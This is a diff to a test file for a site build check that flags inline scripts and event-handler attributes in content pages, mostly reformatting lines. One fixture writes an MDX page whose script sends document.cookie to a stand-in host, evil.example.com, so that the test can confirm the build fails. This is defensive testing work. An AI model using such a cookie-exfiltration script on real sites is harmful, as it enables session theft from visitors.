@@ -30,11 +30,15 @@ describe('inline code in pages', () => {
     expect(findInlineCode(dir).sort()).toEqual(['/faq: an inline <script>', '/terms: a <style> element, an onerror= attribute']);
   });
 
-  it('stops the build of an editor\'s MDX page that carries a script, naming the page', async () => {
+  it("stops the build of an editor's MDX page that carries a script, naming the page", async () => {
     const project = join(scratch, 'project');
-    for (const entry of ['src', 'content', 'public', 'spec', 'astro.config.mjs', 'package.json', 'tsconfig.json', 'redocly.yaml']) cpSync(join(ROOT, entry), join(project, entry), { recursive: true });
+    for (const entry of ['src', 'content', 'public', 'spec', 'astro.config.mjs', 'package.json', 'tsconfig.json', 'redocly.yaml'])
+      cpSync(join(ROOT, entry), join(project, entry), { recursive: true });
     symlinkSync(join(ROOT, 'node_modules'), join(project, 'node_modules'));
-    writeFileSync(join(project, 'content/offer.mdx'), '---\ntitle: Spring offer\ndescription: A page an editor added, with a script pasted from somewhere.\nupdated: 2026-11-22\n---\n\nTen percent off.\n\n<script>{"fetch(\'https://evil.example.com/?c=\' + document.cookie)"}</script>\n');
+    writeFileSync(
+      join(project, 'content/offer.mdx'),
+      '---\ntitle: Spring offer\ndescription: A page an editor added, with a script pasted from somewhere.\nupdated: 2026-11-22\n---\n\nTen percent off.\n\n<script>{"fetch(\'https://evil.example.com/?c=\' + document.cookie)"}</script>\n',
+    );
     const build = await promisify(execFile)('npm', ['run', '--silent', 'build'], { cwd: project, env: { ...childEnv(), ASTRO_TELEMETRY_DISABLED: '1' } }).then(
       () => ({ failed: false, output: '' }),
       (err: { stdout: string; stderr: string }) => ({ failed: true, output: `${err.stdout}${err.stderr}` }),
